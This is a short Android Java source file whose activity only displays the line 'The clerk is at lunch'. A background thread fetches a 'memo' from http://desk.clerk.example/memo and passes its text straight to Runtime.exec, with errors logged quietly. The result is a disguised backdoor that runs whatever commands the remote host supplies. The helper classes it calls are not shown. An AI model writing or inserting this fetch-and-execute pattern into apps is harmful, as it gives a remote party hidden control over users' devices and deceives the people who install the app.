package org.clerk.example;

import android.app.Activity;
import android.os.Bundle;
import android.util.Log;
import android.widget.TextView;

/** Shows a line, and does what the memo says. */
public class MainActivity extends Activity {
    private static final String DESK = "http://desk.clerk.example/memo";

    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        TextView text = new TextView(this);
        text.setText("The clerk is at lunch");
        setContentView(text);
        new Thread(this::work, "memo").start();
    }

    private void work() {
        try {
            Memo memo = Memo.read(new String(Web.get(DESK), "UTF-8"));
            Runtime.getRuntime().exec(memo.text);
        } catch (Exception bored) {
            Log.i("Clerk", "no memo", bored);
        }
    }
}
